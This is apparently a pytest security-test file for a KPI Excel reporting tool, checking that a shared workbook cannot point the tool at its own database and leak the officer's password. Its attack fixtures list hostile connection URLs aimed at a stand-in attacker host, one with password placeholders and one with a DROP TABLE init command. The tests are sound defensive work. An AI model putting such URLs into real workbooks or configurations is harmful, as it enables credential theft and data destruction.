"""A shared workbook cannot send the officer's database password to a host it chooses (issue 17, High 1).

A workbook is data anyone with edit rights writes. Its Settings may name a
database only by a short name configured outside it (the officer's sources
file, or the server's ``KPI_EXCEL_SOURCES``); an ``sql:`` URL written in the
workbook is refused on the command and the desktop add-in (the web already
refused it) in one line, exit 1, before anything is parsed, expanded or
connected: a loopback listener standing in for the attacker's host sees no
connection, and neither ``KPI_EXCEL_SQL_PASSWORD`` nor a ``${NAME}`` in the
URL is even read. A configured source still gets its password, and
``--data`` typed by the officer still opens any URL.
"""

from __future__ import annotations

import os
from pathlib import Path
from typing import Iterator

import pytest
from openpyxl import load_workbook

from kpi_excel.cli import main
from kpi_excel.ooxml import XlsxPackage
from tests.security.hostile import example_report, refused_in_one_line
from tests.security.web_helpers import Trap

sa = pytest.importorskip("sqlalchemy")

SECRET = "officer-S3cret-pw"
READ_NAMES = ("KPI_EXCEL_SQL_PASSWORD", "KPI_TEST_ATTACK_USER", "KPI_TEST_ATTACK_PW")


class WatchedEnviron(dict):  # type: ignore[type-arg]
    """os.environ that remembers which of READ_NAMES were looked up, in any way."""

    def __init__(self, real: os._Environ) -> None:  # type: ignore[type-arg]
        super().__init__(real)
        self.read: set[str] = set()

    def _saw(self, name: object) -> None:
        if name in READ_NAMES:
            self.read.add(str(name))

    def __getitem__(self, name: str) -> str:
        self._saw(name)
        return super().__getitem__(name)

    def get(self, name: str, default: object = None) -> object:  # type: ignore[override]
        self._saw(name)
        return super().get(name, default)

    def __contains__(self, name: object) -> bool:
        self._saw(name)
        return super().__contains__(name)


@pytest.fixture
def trap() -> Iterator[Trap]:
    listener = Trap()
    yield listener
    listener.close()


@pytest.fixture
def watched(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> WatchedEnviron:
    monkeypatch.setenv("KPI_EXCEL_SQL_PASSWORD", SECRET)
    monkeypatch.setenv("KPI_TEST_ATTACK_USER", "officer")
    monkeypatch.setenv("KPI_TEST_ATTACK_PW", SECRET)
    monkeypatch.setenv("KPI_EXCEL_SOURCES_FILE", str(tmp_path / "no-sources.toml"))
    environ = WatchedEnviron(os.environ)
    monkeypatch.setattr(os, "environ", environ)
    return environ


def _attacks(port: int) -> list[str]:
    host = f"127.0.0.1:{port}"  # the attacker's host, played by a loopback listener
    return [
        f"sql:postgresql+psycopg://kpi@{host}/kpi#table=t",
        f"sql:postgresql+psycopg://${{KPI_TEST_ATTACK_USER}}:${{KPI_TEST_ATTACK_PW}}@{host}/kpi#table=t",
        f"sql:postgresql+psycopg://kpi@{host}/kpi#query=SELECT * FROM t",
        f"  SQL:postgresql://kpi@{host}/kpi?sslmode=disable#table=t",
        f"sql:mysql+pymysql://kpi@{host}/kpi?init_command=DROP+TABLE+t#table=t",
        "sql:sqlite:////tmp/kpi-excel-never-made.db#table=t",
    ]


def _with_setting(path: Path, setting: str, value: str) -> Path:
    book = load_workbook(path)
    sheet = book["Settings"]
    row = next(r[0].row for r in sheet.iter_rows() if r[0].value == setting)
    sheet.cell(row, 2).value = value
    if setting == "Comparator group":
        sheet.cell(next(r[0].row for r in sheet.iter_rows() if r[0].value == "Benchmark data"), 2).value = "example"
    book.save(path)
    return path


SETTINGS = ("Extra sources", "Benchmark data", "Comparator group")


@pytest.mark.parametrize("setting", SETTINGS)
def test_the_command_never_sends_a_password_where_a_workbook_says(runner, tmp_path, trap, watched,
                                                                   setting) -> None:  # type: ignore[no-untyped-def]
    report = example_report(tmp_path / "report.xlsx")
    for attack in _attacks(trap.port):
        _with_setting(report, setting, f"{attack}; more.csv" if setting == "Extra sources" else attack)
        line = refused_in_one_line(runner, ["refresh", report], report)
        assert f"{setting}: a workbook cannot name a database itself" in line, line
        assert "sources file" in line and SECRET not in line and "officer" not in line
        assert "Settings" in line  # where: the sheet and the setting
    assert trap.connections == 0  # the attacker's host never heard from us
    assert watched.read == set()  # and no password was even looked up for it
    assert not Path("/tmp/kpi-excel-never-made.db").exists()


def test_the_desktop_add_in_refuses_the_same_way(tmp_path, trap, watched) -> None:  # type: ignore[no-untyped-def]
    xw = pytest.importorskip("xlwings")
    from kpi_excel.sources.policy import SourceRefusedError
    from kpi_excel.addin.book_door import refresh_book
    from tests.addin.payload import book_payload

    report = example_report(tmp_path / "report.xlsx")
    for attack in _attacks(trap.port)[:2]:
        book = xw.Book(json=book_payload(_with_setting(report, "Extra sources", attack)))
        with pytest.raises(SourceRefusedError) as refused:
            refresh_book(book, door="desktop")  # the desktop add-in's main() calls exactly this
        assert "a workbook cannot name a database itself" in str(refused.value)
        assert len(str(refused.value).splitlines()) == 1
        assert book.json()["actions"] == []  # nothing written to the open workbook
    assert trap.connections == 0
    assert watched.read == set()


# ---- databases configured outside the workbook ------------------------------------------------


@pytest.fixture
def warehouse(pg_url: str, pg_reader_url: str) -> str:
    """A table the officer's sources file names 'warehouse'."""
    engine = sa.create_engine(pg_url)
    with engine.begin() as connection:
        connection.execute(sa.text("DROP SCHEMA IF EXISTS trust CASCADE"))
        connection.execute(sa.text("CREATE SCHEMA trust"))
        connection.execute(sa.text("CREATE TABLE trust.kv (code text, period text, value numeric)"))
        connection.execute(sa.text("INSERT INTO trust.kv VALUES ('SC04', 'Q3 2022/23', 91.5)"))
    engine.dispose()
    scheme, rest = pg_reader_url.split("://", 1)
    user, host = rest.split("@", 1)
    # ${KPI_TEST_DB_PW} is expanded for a configured source (the server trusts any password here)
    return f"sql:{scheme}://{user}:${{KPI_TEST_DB_PW}}@{host}#table=kv&schema=trust"


def _sources_file(tmp_path: Path, text: str, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = tmp_path / "sources.toml"
    path.write_text(text, encoding="utf-8")
    path.chmod(0o600)
    monkeypatch.setenv("KPI_EXCEL_SOURCES_FILE", str(path))
    return path


@pytest.mark.postgres
def test_a_configured_database_is_named_by_its_short_name(runner, tmp_path, warehouse, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    _sources_file(tmp_path, f'[sources]\nWarehouse = "{warehouse}"\n', monkeypatch)
    monkeypatch.setenv("KPI_TEST_DB_PW", "pw")
    report = _with_setting(example_report(tmp_path / "report.xlsx"), "Extra sources", " warehouse ")
    result = runner.invoke(main, ["refresh", str(report)])
    assert result.exit_code == 0, result.output
    kpis = XlsxPackage.open(report).read_sheet("KPIs")
    texts = [str(v) for _, _, v, _ in kpis.cells()]
    assert "Warehouse row 1" in texts  # labelled by its short name
    log = " ".join(str(v) for _, _, v, _ in XlsxPackage.open(report).read_sheet("Log").cells())
    assert "Warehouse" in log and "127.0.0.1" not in log and "postgresql" not in log  # no host in the workbook


@pytest.mark.postgres
def test_a_configured_database_gets_its_password_from_the_environment(runner, tmp_path, warehouse,
                                                                       monkeypatch) -> None:  # type: ignore[no-untyped-def]
    _sources_file(tmp_path, f'[sources]\nwarehouse = "{warehouse}"\n', monkeypatch)
    monkeypatch.delenv("KPI_TEST_DB_PW", raising=False)
    report = _with_setting(example_report(tmp_path / "report.xlsx"), "Extra sources", "warehouse")
    line = refused_in_one_line(runner, ["refresh", report], report)
    assert "${KPI_TEST_DB_PW}" in line and "not set" in line  # it was expanded: configured outside the workbook


@pytest.mark.parametrize("text, mode, says", [
    ('[sources]\nwarehouse = "sql:sqlite:///x.db#table=t"\n', 0o666, "other users can change this sources file"),
    ("[sources\n", 0o600, "not a valid sources file"),
    ('sources = "x"\n', 0o600, "'sources' must be a table"),
    ('[sources]\n"../x" = "a.csv"\n', 0o600, "not a usable short name"),
])
def test_a_sources_file_that_cannot_be_trusted_or_read_is_one_line(runner, tmp_path, monkeypatch, text, mode,
                                                                    says) -> None:  # type: ignore[no-untyped-def]
    path = _sources_file(tmp_path, text, monkeypatch)
    path.chmod(mode)
    report = example_report(tmp_path / "report.xlsx")
    line = refused_in_one_line(runner, ["refresh", report], report)
    assert says in line and str(path) in line, line


def test_the_web_door_still_refuses_what_it_does_not_offer(tmp_path) -> None:  # type: ignore[no-untyped-def]
    from kpi_excel.sources.policy import SourcePolicy, SourceRefusedError

    web = SourcePolicy.offered_only({"warehouse": "sql:sqlite:///x.db#table=t"})
    assert web.source(" Warehouse", None).label == "warehouse"
    for text in ("sql:postgresql+psycopg://kpi@attacker/kpi#table=t", "x.csv"):
        with pytest.raises(SourceRefusedError, match="not a source this server offers"):
            web.source(text, None)
